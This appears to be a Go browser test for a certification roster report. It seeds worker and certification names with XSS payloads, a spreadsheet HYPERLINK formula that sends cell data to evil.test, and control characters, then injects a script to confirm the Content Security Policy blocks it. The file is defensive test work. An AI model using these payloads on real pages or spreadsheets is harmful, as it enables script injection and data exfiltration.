//go:build unix

package main

import (
	"bytes"
	"context"
	"fmt"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/cdproto/emulation"
	"github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/network"
	browserpage "github.com/chromedp/cdproto/page"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"

	"github.com/credkit/credkit-go/facade/sandbox"
)

// hostileNames are names that do harm where they are taken for more than text,
// or break a layout.
var hostileNames = []string{
	`<script>alert(1)</script>`,
	`=HYPERLINK("http://evil.test/?"&A1,"x")`,
	`"><img src=x onerror="alert(2)"><style>*{display:none}</style>`,
	`</style></table></main><iframe src="http://evil.test/"></iframe>`,
	"\u202e\x1b[31mright to left",
	strings.Repeat("Wolfeschlegelsteinhausen", 20),
	strings.Repeat("many words ", 40),
}

// hostileTeam is a sandbox whose workers have the hostile names and then
// ordinary ones; each holds certifications with the hostile titles.
func hostileTeam(t *testing.T) *world {
	t.Helper()
	var titles []any
	for i, title := range hostileNames {
		titles = append(titles, map[string]any{
			"id": madeUpID("certification", i), "title": title, "expires_on": time.Now().AddDate(0, 0, 40*i-60).Format("2006-01-02"),
			"validity_status": "valid", "lifecycle_status": "active",
			"certification_type": map[string]any{"id": madeUpID("type", i), "slug": fmt.Sprintf("type-%d", i), "title": title},
		})
	}
	users := teamUsers(12)
	for i, name := range hostileNames {
		users[len(users)-1-i].DisplayName = name
	}
	w := newWorld(t, sandbox.WithUsers(users...), sandbox.WithCertnUsers(teamCertnUsers(users)...), sandbox.WithCertifications(titles...))
	w.signInTeam(t, users)
	return w
}

// events are what a page did that a page of texts does not do.
type events struct {
	mu    sync.Mutex
	found []string
}

func (e *events) add(ev any) {
	found := ""
	switch ev := ev.(type) {
	case *browserpage.EventJavascriptDialogOpening:
		found = "dialog: " + ev.Message
	case *runtime.EventConsoleAPICalled:
		found = "console: " + string(ev.Type)
	case *runtime.EventExceptionThrown:
		found = "exception: " + ev.ExceptionDetails.Text
	case *log.EventEntryAdded: // a violation of the content security policy is one
		found = "log: " + ev.Entry.Text
	case *network.EventRequestWillBeSent:
		if ev.Type != network.ResourceTypeDocument || !strings.HasPrefix(ev.Request.URL, "file:") {
			found = "request: " + ev.Request.URL
		}
	default:
		return
	}
	e.mu.Lock()
	defer e.mu.Unlock()
	if found != "" {
		e.found = append(e.found, found)
	}
}

// take returns what was found since the last time.
func (e *events) take() []string {
	e.mu.Lock()
	defer e.mu.Unlock()
	found := e.found
	e.found = nil
	return found
}

func TestRosterPageInABrowser(t *testing.T) {
	t.Parallel()
	seen := &events{}
	page := chromium(t, chromedp.WithListener(seen.add))
	w := hostileTeam(t)
	dir := t.TempDir()
	file := filepath.Join(dir, "roster.html")
	requirements := filepath.Join(dir, "requirements.csv")
	if err := os.WriteFile(requirements, []byte("*,type-1\n*,type-2\nworker-001,type-9\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	w.run(t, "roster", "--users", "--requirements", requirements, "--to", file).expect(t, exitPartial)
	address := (&url.URL{Scheme: "file", Path: file}).String()

	// media sets what the page is shown on. The empty scheme is the browser's own.
	media := func(medium, scheme string) {
		t.Helper()
		if _, err := chromedp.Call(page, emulation.SetEmulatedMedia, emulation.SetEmulatedMediaParams{
			Media: medium, Features: []*emulation.MediaFeature{{Name: "prefers-color-scheme", Value: scheme}},
		}); err != nil {
			t.Fatal(err)
		}
	}
	media("", "light")
	if err := chromedp.Do(page, chromedp.EmulateViewport(1280, 900)); err != nil {
		t.Fatal(err)
	}
	text := opened(t, page, address)
	contain(t, text, hostileNames[0], hostileNames[1], hostileNames[2], hostileNames[3])
	light := evaluated[string](t, page, `getComputedStyle(document.body).backgroundColor`)
	picture(t, page, "roster")

	// What lapses first is first: its days ascend, after what was never held,
	// which has none.
	days := evaluated[[]string](t, page, `[...document.querySelectorAll('#next tbody tr')].map(tr => tr.querySelector('.day').innerText)`)
	if !slices.IsSorted(days) || len(days) < 20 || days[0] != "" || days[len(days)-1] == "" {
		t.Errorf("what lapses next: %q", days)
	}
	if first := evaluated[string](t, page, `document.querySelector('#next tbody tr').innerText`); !strings.Contains(first, "Ada Miller") || !strings.Contains(first, "never held") {
		t.Errorf("the first line of what lapses next: %q", first)
	}
	// Each state has its sign, so that it needs no colour.
	signs := evaluated[map[string]string](t, page, `Object.fromEntries([...document.querySelectorAll('#matrix td')].map(td => [td.classList[0], td.querySelector('.sign').innerText]))`)
	for state, sign := range map[string]string{"expired": "✗", "due": "!", "valid": "✓", "never_held": "○", "unknown": "?", "not_required": "–"} {
		if signs[state] != sign {
			t.Errorf("the sign of %s is %q, want %q", state, signs[state], sign)
		}
	}
	if n := evaluated[int](t, page, `document.querySelectorAll('#matrix tbody tr').length`); n != 12 {
		t.Errorf("%d workers in the matrix", n)
	}

	wide := func(where string) {
		t.Helper()
		over := evaluated[[]string](t, page, `[...document.querySelectorAll('body *')].filter(e => e.getBoundingClientRect().right > innerWidth + 0.5
			&& !e.closest('.scroll, thead')).map(e => e.outerHTML.slice(0, 200))`)
		if w, inner := evaluated[int](t, page, `document.documentElement.scrollWidth`), evaluated[int](t, page, `innerWidth`); w > inner || len(over) > 0 {
			t.Errorf("%s: the page is %d wide of %d: %q", where, w, inner, over)
		}
	}
	wide("desktop")
	if err := chromedp.Do(page, chromedp.EmulateViewport(390, 844, chromedp.EmulatePortrait, chromedp.EmulateMobile, chromedp.EmulateTouch), chromedp.Reload()); err != nil {
		t.Fatal(err)
	}
	wide("phone")
	if n := evaluated[int](t, page, `document.querySelector('.scroll').scrollWidth - innerWidth`); n > 0 || evaluated[int](t, page, `innerWidth`) != 390 {
		t.Errorf("on a phone the matrix is %d wider than the screen", n)
	}
	picture(t, page, "roster-phone")

	media("", "dark")
	dark := evaluated[string](t, page, `getComputedStyle(document.body).backgroundColor`)
	if dark == light {
		t.Errorf("the background is %s in the light and in the dark", dark)
	}
	picture(t, page, "roster-phone-dark")
	if err := chromedp.Do(page, chromedp.EmulateViewport(1280, 900)); err != nil {
		t.Fatal(err)
	}
	picture(t, page, "roster-dark")

	media("print", "dark")
	if got := evaluated[string](t, page, `getComputedStyle(document.body).backgroundColor`); got != "rgb(255, 255, 255)" {
		t.Errorf("in print the background is %s", got)
	}
	media("", "dark")
	pdf, err := chromedp.Run(page, chromedp.PrintToPDF(chromedp.PDFPreferCSSPageSize()))
	if err != nil {
		t.Fatal(err)
	}
	if pages := len(regexp.MustCompile(`/Type\s*/Page\b`).FindAll(pdf, -1)); !bytes.HasPrefix(pdf, []byte("%PDF-")) || pages < 1 || !bytes.Contains(pdf, []byte("/Font")) {
		t.Errorf("a PDF of %d bytes and %d pages", len(pdf), pages)
	}
	keep(t, "roster.pdf", pdf)

	if found := seen.take(); len(found) > 0 {
		t.Errorf("the page does more than show texts: %q", found)
	}
	// If a text were markup, the policy would stop it, and the test would see that.
	html, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	broken := bytes.Replace(html, []byte("<main>"), []byte(`<main><script>alert(1)</script><img src="http://evil.test/" onerror="alert(2)">`), 1)
	if err := os.WriteFile(file, broken, 0o600); err != nil {
		t.Fatal(err)
	}
	opened(t, page, address)
	found := strings.Join(seen.take(), "\n")
	contain(t, found, "Content Security Policy", "evil.test")
	if containsAny(found, "dialog:", "exception:") {
		t.Errorf("a script runs: %s", found)
	}
}

// evaluated returns the value of an expression in a page.
func evaluated[T any](t *testing.T, page context.Context, expression string) T { //nolint:revive // t comes first
	t.Helper()
	value, err := chromedp.Run(page, chromedp.Evaluate[T](expression))
	if err != nil {
		t.Fatalf("%s: %v", expression, err)
	}
	return value
}
